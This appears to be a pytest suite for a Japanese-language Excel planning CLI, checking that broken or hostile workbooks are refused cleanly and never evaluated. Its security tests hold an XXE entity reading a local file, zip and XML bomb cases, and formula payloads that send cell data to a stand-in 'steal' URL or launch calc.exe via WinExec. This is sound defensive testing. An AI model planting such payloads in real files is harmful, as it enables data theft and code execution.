"""Bad input: every broken workbook ends in a Japanese message or a finding, never a traceback.

The corpus (tests/badinput.py) is built from the sample workbook at test time.
Each case runs through the CLI (typer's CliRunner, in process, for speed; a few
also through the real `xlplan` console script): validate, populate, schedule.
A refused input exits 2 with a message naming the problem (and the sheet and
cell when there is one) and is left byte-identical; a readable input with bad
cells exits 1 with an INPUT-… finding at that cell.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
import time
from pathlib import Path

import badinput as B
import pytest
from lxml import etree
from typer.testing import CliRunner

from xlplan.adapters.package import safexml, zipcheck
from xlplan.adapters.package.zipcheck import check_package
from xlplan.adapters.xlsx_file import read_values
from xlplan.catalog_data import load_catalog
from xlplan.cli import app
from xlplan.errors import WorkbookReadError, WorkbookWriteError
from xlplan.layout.ops import InsertRows
from xlplan.layout.read import read_plan
from xlplan.operations import populate_ops

JAPANESE = re.compile(r"[\u3040-\u30ff\u4e00-\u9fff]")
# What parsers say in English (calamine, libxml2, zipfile, the OS) must not reach the clerk.
ENGLISH = re.compile(r"\(sst\)|XML_PARSE|Excessive|decode|byte sequence|[Ll]ine \d|column \d|[Ee]rror:? [a-z]|"
                     r"File is not|No such file|Permission denied|[A-Za-z]{4,} [a-z]{4,} [a-z]{4,}")
runner = CliRunner()


@pytest.fixture(scope="module")
def good(sample_bytes, tmp_path_factory) -> B.Good:
    return B.Good(sample_bytes, tmp_path_factory.mktemp("good") / "good.xlsm")


def cli(*args) -> tuple[int, str, str]:
    result = runner.invoke(app, [str(a) for a in args])
    # an uncaught exception is a bug: CliRunner keeps it instead of printing a traceback
    assert result.exception is None or isinstance(result.exception, SystemExit), \
        f"{args[0]} raised {result.exception!r}"
    out, err = result.stdout, result.stderr
    assert "Traceback" not in out + err
    return result.exit_code, out, err


def place(tmp_path: Path, case: B.Case, data: bytes, label: str) -> Path:
    folder = tmp_path / f"{label} 入力"
    folder.mkdir()
    path = folder / f"{case.name}{case.suffix}"
    path.write_bytes(data)
    return path


def assert_refused(code: int, err: str, path: Path, data: bytes, says, sheet: str | None, cell: str | None) -> None:
    assert code == 2, err
    assert err.startswith("エラー:") and JAPANESE.search(err), err
    assert not ENGLISH.search(err), f"English from a parser reached the clerk: {err!r}"
    for text in says:
        assert text in err, f"{text!r} not in {err!r}"
    if sheet:
        assert f"「{sheet}」" in err, err
    if cell:
        assert cell in err, err
    assert path.read_bytes() == data, "a refused input must be left as it was"
    assert [p.name for p in path.parent.iterdir()] == [path.name], "nothing may be left next to it"


@pytest.mark.parametrize("case", B.CASES, ids=lambda c: c.name)
def test_bad_input(case: B.Case, good: B.Good, tmp_path: Path) -> None:
    data = case.build(good)
    cell = case.cell_of(good)

    # validate --format json
    path = place(tmp_path, case, data, "validate")
    code, out, err = cli("validate", path, "--format", "json")
    if case.validate == "refuse":
        assert_refused(code, err, path, data, case.says, case.sheet, cell)
    else:
        findings = json.loads(out)
        if case.validate == "finding":
            assert code == 1, err
            hits = [f for f in findings if f["code"] == case.code and f["sheet"] == case.sheet and f["cell"] == cell]
            assert hits, [f for f in findings if f["code"].startswith("INPUT-")]
            assert all(t in hits[0]["message"] for t in case.says), hits[0]["message"]
            assert JAPANESE.search(hits[0]["message"])
        else:
            assert code == 0, (err, [f for f in findings if f["severity"] == "error"])
            assert not [f for f in findings if f["code"].startswith("INPUT-")]

    # populate (rows inserted into a domain sheet), on a fresh copy
    path = place(tmp_path, case, data, "populate")
    code, out, err = cli("populate", path, "--ids", good.new_catalog_id)
    if case.write_expect == "refuse":
        says = case.write_says or case.says
        assert_refused(code, err, path, data, says, case.sheet, cell if case.validate == "refuse" else None)
    else:
        assert code == 0, err
        assert "1件を追加しました" in out
        reread = read_plan(read_values(path))
        assert good.new_catalog_id in {m.catalog_id for m in reread.plan.measures}

    # schedule (工程表 and 検証結果 rewritten), on a fresh copy
    path = place(tmp_path, case, data, "schedule")
    code, out, err = cli("schedule", path)
    if case.schedule_expect == "refuse":
        says = case.write_says or case.says
        assert_refused(code, err, path, data, says, case.sheet if case.validate == "refuse" else None,
                       cell if case.validate == "refuse" else None)
    else:
        assert code == 0, err
        assert "工程表を作り直しました" in out
        read_plan(read_values(path))


def test_the_corpus_is_large_enough_and_unique():
    names = [c.name for c in B.CASES]
    assert len(set(names)) == len(names)
    assert len([c for c in B.CASES if c.validate != "ok" or c.write_expect == "refuse"]) >= 30


@pytest.mark.parametrize("name", ["not_a_zip", "xml_bomb", "zip_bomb_forged_size", "empty_workbook", "invalid_start_fy"])
def test_the_console_script_prints_no_traceback(name, good, tmp_path):
    """The real entry point (xlplan.cli:main) in a separate process, as a planner would run it."""
    case = next(c for c in B.CASES if c.name == name)
    data = case.build(good)
    path = place(tmp_path, case, data, "script")
    command = [sys.executable, "-c", "from xlplan.cli import main; main()"]
    done = subprocess.run([*command, "populate", str(path), "--ids", good.new_catalog_id],
                          capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stdout + done.stderr
    assert done.stderr.startswith("エラー:") and JAPANESE.search(done.stderr)
    assert path.read_bytes() == data


def test_missing_file_and_folder_are_refused(tmp_path):
    code, _, err = cli("validate", tmp_path / "ない.xlsm")
    assert code == 2 and "見つかりません" in err
    folder = tmp_path / "フォルダー.xlsm"
    folder.mkdir()
    code, _, err = cli("populate", folder, "--ids", "C01")
    assert code == 2 and "フォルダー" in err


def test_protected_sheet_is_refused_even_with_output(good, tmp_path):
    """Protection is the planner's decision: -o does not get round it."""
    case = next(c for c in B.CASES if c.name == "protected_domain_sheet")
    path = place(tmp_path, case, case.build(good), "protected")
    code, _, err = cli("populate", path, "--ids", good.new_catalog_id, "-o", tmp_path / "別名.xlsm")
    assert code == 2 and "保護" in err and "シート「電子行政」" in err
    assert not (tmp_path / "別名.xlsm").exists()


def test_table_refusal_offers_output_and_output_works(good, tmp_path):
    """Rows inside a user's Excel table: refused in place; written to a new file with -o, the table extended."""
    case = next(c for c in B.CASES if c.name == "table_over_measures")
    data = case.build(good)
    path = place(tmp_path, case, data, "table")
    code, _, err = cli("populate", path, "--ids", good.new_catalog_id)
    assert code == 2 and "-o 新しい名前.xlsm" in err and path.read_bytes() == data
    target = tmp_path / "出力" / "新しい名前.xlsm"
    code, _, err = cli("populate", path, "--ids", good.new_catalog_id, "-o", target)
    assert code == 0, err
    assert path.read_bytes() == data, "-o leaves the original alone"
    before = etree.fromstring(B.read_member(data, "xl/tables/table1.xml")).get("ref")
    after = etree.fromstring(B.read_member(target.read_bytes(), "xl/tables/table1.xml")).get("ref")
    inserted = sum(op.count for op in populate_ops(good.read, load_catalog(), [good.new_catalog_id]).ops
                   if isinstance(op, InsertRows))
    first, last = before.split(":")
    assert inserted > 0
    assert after == f"{first}:{re.sub(r'[0-9]+', str(int(re.sub(r'[A-Z]+', '', last)) + inserted), last)}"


# ------------------------------------------------------------------ security

def test_xml_parser_refuses_dtds_and_never_resolves_entities(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    xxe = f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}">]><a>&x;</a>'.encode()
    with pytest.raises(WorkbookWriteError, match="DTD"):
        safexml.parse(xxe, "xl/worksheets/sheet1.xml")
    # even if the DTD check were bypassed, the parser itself does not load or expand entities
    root = etree.fromstring(xxe, safexml.PARSER)
    assert "TOP-SECRET" not in etree.tostring(root).decode()
    assert safexml.has_dtd("<?xml version='1.0' encoding='UTF-16'?><!DOCTYPE a []><a/>".encode("utf-16-le"))
    assert not safexml.has_dtd(b"<sst><si><t>&lt;!DOCTYPE is text here</t></si></sst>")


def test_archive_limits_are_enforced(good, tmp_path, monkeypatch):
    path = tmp_path / "book.xlsm"
    path.write_bytes(good.data)
    check_package(path).close()
    assert zipcheck.MAX_UNCOMPRESSED <= 300 * 2**20 and zipcheck.MAX_RATIO <= 200
    monkeypatch.setattr(zipcheck, "MAX_UNCOMPRESSED", 100_000)
    with pytest.raises(WorkbookReadError, match="展開後のサイズが大きすぎる"):
        check_package(path)
    monkeypatch.setattr(zipcheck, "MAX_UNCOMPRESSED", 300 * 2**20)
    monkeypatch.setattr(zipcheck, "MAX_MEMBERS", 10)
    with pytest.raises(WorkbookReadError, match="部品の数が多すぎる"):
        check_package(path)


def test_bombs_are_refused_quickly(good, tmp_path):
    """Refused from the zip's own numbers or while inflating, before calamine sees the file."""
    for name in ("zip_bomb", "zip_bomb_forged_size", "xml_bomb"):
        case = next(c for c in B.CASES if c.name == name)
        path = tmp_path / f"{name}.xlsm"
        path.write_bytes(case.build(good))
        start = time.perf_counter()
        with pytest.raises(WorkbookReadError):
            read_values(path)
        assert time.perf_counter() - start < 2.0, name


def test_formulas_are_never_evaluated(good, tmp_path):
    """Only the values Excel cached are read: a formula's text is never run, whatever it says."""
    target = good.cell("kpi.target_value")
    name = good.cell("measure.name")
    data = good.with_cells(good.domain, {
        target: {"value": 42, "formula": 'WEBSERVICE("http://127.0.0.1:9/steal?"&A1)'},
        name: {"value": "キャッシュされた名前", "formula": 'CALL("kernel32","WinExec","JCJ","calc.exe",0)'},
    })
    path = tmp_path / "formulas.xlsm"
    path.write_bytes(data)
    read = read_plan(read_values(path))
    measure = next(m for m in read.plan.measures if m.id == good.read.rows[good.domain][0].measure_id)
    assert measure.name == "キャッシュされた名前"
    assert measure.kpis[0].target_value == 42
    # and a write keeps the formulas as they were, text and cached value, without evaluating them
    code, _, err = cli("populate", path, "--ids", good.new_catalog_id)
    assert code == 0, err
    sheet = B.read_member(path.read_bytes(), B.sheet_part(data, good.domain)).decode()
    assert "WEBSERVICE(&quot;http://127.0.0.1:9/steal?&quot;&amp;A1)" in sheet or 'WEBSERVICE("http' in sheet
    assert "calc.exe" in sheet


def test_macros_are_carried_not_run(good, tmp_path):
    """The VBA project is opaque bytes to xlplan: copied through, never parsed for execution."""
    path = tmp_path / "book.xlsm"
    path.write_bytes(good.data)
    code, _, err = cli("schedule", path)
    assert code == 0, err
    assert B.read_member(path.read_bytes(), "xl/vbaProject.bin") == B.read_member(good.data, "xl/vbaProject.bin")
